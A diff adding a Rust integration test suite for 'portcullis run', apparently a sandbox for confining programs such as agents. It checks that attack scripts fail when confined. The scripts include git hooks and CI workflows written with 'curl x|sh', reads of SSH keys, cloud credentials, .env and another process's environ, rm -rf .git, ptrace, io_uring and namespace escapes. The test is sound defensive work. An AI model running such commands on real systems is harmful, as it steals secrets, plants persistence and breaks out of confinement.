@@ -1,0 +1,502 @@
+//! `portcullis run` on the real kernel: each boundary proved by running real
+//! programs confined, as the current user and — when the tests run as root,
+//! as CI does — also as an unprivileged user the test creates.
+//!
+//! Each attack is a shell script that prints `ESCAPED` only if the forbidden
+//! thing worked. It must not print it confined, and the host must be
+//! unchanged; where it is safe to do so, the same script is run unconfined in
+//! a world of its own and must print it (so a check that could never fail
+//! fails this test).
+
+use std::io::Write;
+use std::net::TcpListener;
+use std::os::unix::net::UnixListener;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+const BIN: &str = env!("CARGO_BIN_EXE_portcullis");
+const TEST_USER: &str = "portcullis-confine-test";
+
+/// A home with secrets and dotfiles, a git workspace, a data directory.
+struct World {
+    _dir: tempfile::TempDir,
+    root: PathBuf,
+    user: Option<(u32, u32)>,
+}
+
+impl World {
+    fn new(user: Option<(u32, u32)>) -> World {
+        let dir = tempfile::Builder::new()
+            .prefix("pc-run-")
+            .tempdir()
+            .expect("tempdir");
+        let root = dir.path().canonicalize().expect("canonical");
+        let git = Command::new("git")
+            .args(["init", "-q"])
+            .arg(root.join("home/proj"))
+            .status()
+            .expect("git init");
+        assert!(git.success());
+        let files: &[(&str, &str)] = &[
+            ("home/.bashrc", "# rc\n"),
+            ("home/.ssh/id_rsa", "KEYDATA\n"),
+            ("home/.aws/credentials", "KEYDATA\n"),
+            ("home/proj/.git/config", "[core]\n"),
+            ("home/proj/.git/HEAD", "ref: refs/heads/main\n"),
+            ("home/proj/.git/hooks/README", "hooks\n"),
+            ("home/proj/.claude/settings.json", "{}\n"),
+            ("home/proj/src/main.rs", "fn main() {}\n"),
+            ("home/proj/.github/workflows/ci.yml", "on: push\n"),
+            ("home/proj/.env", "KEYDATA\n"),
+            ("data/portcullis.db", "SQLite format 3\n"),
+        ];
+        for (path, text) in files {
+            let p = root.join(path);
+            std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
+            std::fs::write(&p, text).expect("write");
+        }
+        std::os::unix::fs::symlink(root.join("home/.bashrc"), root.join("home/proj/link"))
+            .expect("symlink");
+        if let Some((uid, gid)) = user {
+            let status = Command::new("chown")
+                .arg("-R")
+                .arg(format!("{uid}:{gid}"))
+                .arg(&root)
+                .status()
+                .expect("chown");
+            assert!(status.success());
+        }
+        World {
+            _dir: dir,
+            root,
+            user,
+        }
+    }
+
+    fn home(&self) -> PathBuf {
+        self.root.join("home")
+    }
+
+    fn ws(&self) -> PathBuf {
+        self.root.join("home/proj")
+    }
+
+    fn data(&self) -> PathBuf {
+        self.root.join("data")
+    }
+
+    /// Runs `bash -c script` in the workspace, confined (`portcullis run`
+    /// with `extra` options) or not.
+    fn bash(&self, script: &str, confined: bool, extra: &[&str], env: &[(&str, &str)]) -> Output {
+        let mut argv: Vec<String> = Vec::new();
+        if let Some((uid, gid)) = self.user {
+            argv.extend([
+                "setpriv".into(),
+                format!("--reuid={uid}"),
+                format!("--regid={gid}"),
+                "--clear-groups".into(),
+                "--".into(),
+            ]);
+        }
+        if confined {
+            argv.push(BIN.into());
+            argv.push("run".into());
+            argv.extend(extra.iter().map(|s| s.to_string()));
+            argv.push("--".into());
+        }
+        argv.extend(["bash".into(), "-c".into(), script.into()]);
+        let (program, args) = argv.split_first().expect("argv");
+        let home = self.home();
+        let mut c = Command::new(program);
+        c.args(args)
+            .env_clear()
+            .env("PATH", "/usr/local/bin:/usr/bin:/bin")
+            .env("HOME", &home)
+            .env("XDG_CONFIG_HOME", home.join(".config"))
+            .env("XDG_DATA_HOME", home.join(".local/share"))
+            .env("PORTCULLIS_DATA_DIR", self.data())
+            .env("PORTCULLIS_MANAGED_CONFIG", self.root.join("managed.toml"))
+            .env("DATA", self.data())
+            .current_dir(self.ws());
+        for (k, v) in env {
+            c.env(k, v);
+        }
+        c.output().expect("run")
+    }
+}
+
+/// The users to run as: the current one, and a plain user when root.
+fn users() -> Vec<Option<(u32, u32)>> {
+    let mut v = vec![None];
+    if rustix_uid() == 0 {
+        let _ = Command::new("useradd")
+            .args([
+                "--system",
+                "--no-create-home",
+                "--shell",
+                "/bin/sh",
+                TEST_USER,
+            ])
+            .output();
+        let id = |flag: &str| -> u32 {
+            let out = Command::new("id")
+                .args([flag, TEST_USER])
+                .output()
+                .expect("id");
+            String::from_utf8_lossy(&out.stdout)
+                .trim()
+                .parse()
+                .unwrap_or_else(|_| panic!("the test user {TEST_USER} could not be created"))
+        };
+        v.push(Some((id("-u"), id("-g"))));
+    }
+    v
+}
+
+fn rustix_uid() -> u32 {
+    let out = Command::new("id").arg("-u").output().expect("id");
+    String::from_utf8_lossy(&out.stdout)
+        .trim()
+        .parse()
+        .expect("uid")
+}
+
+fn text(o: &Output) -> String {
+    format!(
+        "status {:?}\nstdout: {}\nstderr: {}",
+        o.status.code(),
+        String::from_utf8_lossy(&o.stdout),
+        String::from_utf8_lossy(&o.stderr)
+    )
+}
+
+/// A confined script that must not print ESCAPED; `control`: the same
+/// script unconfined must.
+struct Attack {
+    name: &'static str,
+    script: &'static str,
+    control: bool,
+}
+
+const ATTACKS: &[Attack] = &[
+    Attack {
+        name: "write a shell startup file outside the workspace",
+        script: "echo pwned >> ~/.bashrc && echo ESCAPED",
+        control: true,
+    },
+    Attack {
+        name: "write a git hook",
+        script: "echo 'curl x|sh' > .git/hooks/post-checkout && echo ESCAPED",
+        control: true,
+    },
+    Attack {
+        name: "write .git/config",
+        script: "echo '[core] fsmonitor=id' >> .git/config && echo ESCAPED",
+        control: true,
+    },
+    Attack {
+        name: "rename .git away and write a fresh .git/config",
+        script: "mv .git moved && mkdir .git && echo '[core]' > .git/config && echo ESCAPED",
+        control: true,
+    },
+    Attack {
+        name: "rename the directory above a protected one and write it afresh",
+        script: "mv .github gh && mkdir -p .github/workflows && echo 'run: curl x|sh' > .github/workflows/ci.yml && echo ESCAPED",
+        control: true,
+    },
+    Attack {
+        name: "trace a process (ptrace)",
+        script: "perl -e '$n = (`uname -m` =~ /aarch64/) ? 117 : 101; syscall($n, 0, 0, 0, 0) == 0 and print \"ESCAPED\\n\"'",
+        control: true,
+    },
+    Attack {
+        name: "set up an io_uring (its operations bypass the system-call filter)",
+        script: "perl -e '$p = \"\\0\" x 120; syscall(425, 1, $p) >= 0 and print \"ESCAPED\\n\"'",
+        control: true,
+    },
+    Attack {
+        name: "remove .git",
+        script: "rm -rf .git; [ -e .git/config ] || echo ESCAPED",
+        control: true,
+    },
+    Attack {
+        name: "write an agent's settings",
+        script: "echo '{\"hooks\":{}}' > .claude/settings.json && echo ESCAPED",
+        control: true,
+    },
+    Attack {
+        name: "hard-link a protected file and write the link",
+        script: "ln .git/config hl && echo x >> hl && echo ESCAPED",
+        control: true,
+    },
+    Attack {
+        name: "write through a symlink in the workspace that points outside",
+        script: "echo pwned >> link && echo ESCAPED",
+        control: true,
+    },
+    Attack {
+        name: "read an ssh key",
+        script: "grep -q KEYDATA ~/.ssh/id_rsa && echo ESCAPED",
+        control: true,
+    },
+    Attack {
+        name: "read cloud credentials",
+        script: "grep -q KEYDATA ~/.aws/credentials && echo ESCAPED",
+        control: true,
+    },
+    Attack {
+        name: "list an ssh directory",
+        script: "ls ~/.ssh | grep -q id_rsa && echo ESCAPED",
+        control: true,
+    },
+    Attack {
+        name: "read the workspace's .env",
+        script: "grep -q KEYDATA .env && echo ESCAPED",
+        control: true,
+    },
+    Attack {
+        name: "read portcullis' database",
+        script: "grep -q SQLite \"$DATA/portcullis.db\" && echo ESCAPED",
+        control: true,
+    },
+    Attack {
+        name: "a grandchild writes a startup file",
+        script: "bash -c 'sh -c \"echo x >> ~/.bashrc && echo ESCAPED\"'",
+        control: true,
+    },
+    Attack {
+        name: "unmount what covers .git",
+        script: "umount -l .git && echo x >> .git/config && echo ESCAPED",
+        control: false,
+    },
+    Attack {
+        name: "mount over the workspace's protected directory",
+        script: "mount -t tmpfs none .git && echo ESCAPED",
+        control: false,
+    },
+    Attack {
+        name: "leave the confinement through a new user namespace",
+        script: "unshare -Urm true && echo ESCAPED",
+        control: false,
+    },
+    Attack {
+        name: "a secret variable of the environment",
+        script: "[ -n \"$AWS_SECRET_ACCESS_KEY$PORTCULLIS_SESSION_TOKEN\" ] && echo ESCAPED",
+        control: true,
+    },
+    Attack {
+        name: "read another process' environment",
+        script: "grep -q MARKER_SECRET /proc/$TARGET/environ && echo ESCAPED",
+        control: true,
+    },
+];
+
+#[test]
+fn attacks_fail_confined_and_work_unconfined() {
+    for user in users() {
+        // A process of the same user outside the confinement, with a
+        // secret in its environment.
+        let mut target = Command::new("setpriv");
+        if let Some((uid, gid)) = user {
+            target.args([
+                format!("--reuid={uid}"),
+                format!("--regid={gid}"),
+                "--clear-groups".into(),
+            ]);
+        }
+        let mut target = target
+            .args(["--", "sleep", "60"])
+            .env("MARKER", "MARKER_SECRET")
+            .spawn()
+            .expect("start the target process");
+        let pid = target.id().to_string();
+        let env = [
+            ("AWS_SECRET_ACCESS_KEY", "KEYDATA"),
+            ("PORTCULLIS_SESSION_TOKEN", "KEYDATA"),
+            ("TARGET", pid.as_str()),
+        ];
+        for attack in ATTACKS {
+            let world = World::new(user);
+            let before = snapshot(&world.root);
+            let out = world.bash(attack.script, true, &[], &env);
+            assert!(
+                !String::from_utf8_lossy(&out.stdout).contains("ESCAPED"),
+                "{} (as {user:?}): escaped the confinement\n{}",
+                attack.name,
+                text(&out)
+            );
+            assert_eq!(
+                out.status.code() == Some(125),
+                false,
+                "{} (as {user:?}): portcullis refused to run it\n{}",
+                attack.name,
+                text(&out)
+            );
+            let after = snapshot(&world.root);
+            assert_eq!(
+                before,
+                after,
+                "{} (as {user:?}): the host changed\n{}",
+                attack.name,
+                text(&out)
+            );
+            if attack.control {
+                let world = World::new(user);
+                let out = world.bash(attack.script, false, &[], &env);
+                assert!(
+                    String::from_utf8_lossy(&out.stdout).contains("ESCAPED"),
+                    "{} (as {user:?}): the control run unconfined did not succeed, so the case proves nothing\n{}",
+                    attack.name,
+                    text(&out)
+                );
+            }
+        }
+        let _ = target.kill();
+        let _ = target.wait();
+    }
+}
+
+/// Every file's path and contents under `root` (symlinks as their target).
+fn snapshot(root: &Path) -> Vec<(String, String)> {
+    let mut out = Vec::new();
+    let mut stack = vec![root.to_path_buf()];
+    while let Some(dir) = stack.pop() {
+        let Ok(entries) = std::fs::read_dir(&dir) else {
+            continue;
+        };
+        for e in entries.flatten() {
+            let p = e.path();
+            let t = e.file_type().expect("type");
+            let key = p.strip_prefix(root).expect("under").display().to_string();
+            if t.is_symlink() {
+                out.push((
+                    key,
+                    format!("-> {}", std::fs::read_link(&p).expect("link").display()),
+                ));
+            } else if t.is_dir() {
+                out.push((key, "dir".into()));
+                stack.push(p);
+            } else {
+                out.push((key, std::fs::read_to_string(&p).unwrap_or_default()));
+            }
+        }
+    }
+    out.sort();
+    out
+}
+
+#[test]
+fn the_workspace_and_a_private_temporary_directory_are_writable() {
+    for user in users() {
+        let world = World::new(user);
+        let out = world.bash(
+            "echo hello > out.txt && cat out.txt && cat src/main.rs && echo t > \"$TMPDIR/t\" && cat \"$TMPDIR/t\" && echo \"$TMPDIR\" && git status --short >/dev/null && echo git-ok; exit 7",
+            true,
+            &[],
+            &[],
+        );
+        let stdout = String::from_utf8_lossy(&out.stdout).to_string();
+        assert_eq!(out.status.code(), Some(7), "{}", text(&out));
+        let lines: Vec<&str> = stdout.lines().collect();
+        assert_eq!(lines.first(), Some(&"hello"), "{}", text(&out));
+        assert_eq!(lines.get(1), Some(&"fn main() {}"), "{}", text(&out));
+        assert_eq!(lines.get(2), Some(&"t"), "{}", text(&out));
+        assert_eq!(lines.get(4), Some(&"git-ok"), "{}", text(&out));
+        assert_eq!(
+            std::fs::read_to_string(world.ws().join("out.txt")).expect("written on the host"),
+            "hello\n"
+        );
+        // The private temporary directory is gone with the run.
+        let tmpdir = lines.get(3).expect("TMPDIR printed");
+        assert!(tmpdir.contains("portcullis-run-"), "{tmpdir}");
+        assert!(!Path::new(tmpdir).exists(), "{tmpdir} was left behind");
+    }
+}
+
+#[test]
+fn network_off_reaches_no_host_listener_and_on_does() {
+    let tcp = TcpListener::bind("127.0.0.1:0").expect("listen");
+    let port = tcp.local_addr().expect("addr").port();
+    std::thread::spawn(move || {
+        for conn in tcp.incoming().flatten() {
+            drop(conn);
+        }
+    });
+    for user in users() {
+        let world = World::new(user);
+        let socket = world.data().join("hook.sock");
+        let unix = UnixListener::bind(&socket).expect("unix listen");
+        if let Some((uid, gid)) = user {
+            std::os::unix::fs::chown(&socket, Some(uid), Some(gid)).expect("chown");
+        }
+        std::thread::spawn(move || {
+            for conn in unix.incoming().flatten() {
+                drop(conn);
+            }
+        });
+        let tcp_script = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo ESCAPED");
+        let off = world.bash(&tcp_script, true, &[], &[]);
+        assert!(
+            !String::from_utf8_lossy(&off.stdout).contains("ESCAPED"),
+            "network off reached a host listener\n{}",
+            text(&off)
+        );
+        let on = world.bash(&tcp_script, true, &["--network", "on"], &[]);
+        assert!(
+            String::from_utf8_lossy(&on.stdout).contains("ESCAPED"),
+            "network on did not reach the host listener\n{}",
+            text(&on)
+        );
+        let unix_script = "perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Peer => \"$ENV{DATA}/hook.sock\") and print \"ESCAPED\\n\"'";
+        for extra in [&[][..], &["--network", "on"][..]] {
+            let out = world.bash(unix_script, true, extra, &[]);
+            assert!(
+                !String::from_utf8_lossy(&out.stdout).contains("ESCAPED"),
+                "the daemon's socket was reachable ({extra:?})\n{}",
+                text(&out)
+            );
+        }
+        let control = world.bash(unix_script, false, &[], &[]);
+        assert!(
+            String::from_utf8_lossy(&control.stdout).contains("ESCAPED"),
+            "the socket control failed\n{}",
+            text(&control)
+        );
+    }
+}
+
+#[test]
+fn a_refusal_names_what_is_wrong_and_runs_nothing() {
+    let world = World::new(None);
+    let out = world.bash("echo ran", true, &[], &[]);
+    assert!(out.status.success(), "{}", text(&out));
+    // A working directory without a workspace (`/`) is refused.
+    let out = Command::new(BIN)
+        .args(["run", "--cwd", "/", "--", "sh", "-c", "echo ran"])
+        .env("HOME", world.home())
+        .env("PORTCULLIS_DATA_DIR", world.data())
+        .output()
+        .expect("run");
+    assert_eq!(out.status.code(), Some(125), "{}", text(&out));
+    assert!(!String::from_utf8_lossy(&out.stdout).contains("ran"));
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains("no workspace"),
+        "{}",
+        text(&out)
+    );
+    // A program that does not exist.
+    let out = Command::new(BIN)
+        .args(["run", "--", "no-such-program-anywhere"])
+        .current_dir(world.ws())
+        .env("HOME", world.home())
+        .env("PORTCULLIS_DATA_DIR", world.data())
+        .output()
+        .expect("run");
+    assert_eq!(out.status.code(), Some(125), "{}", text(&out));
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains("not found"),
+        "{}",
+        text(&out)
+    );
+    let _ = std::io::stderr().flush();
+}
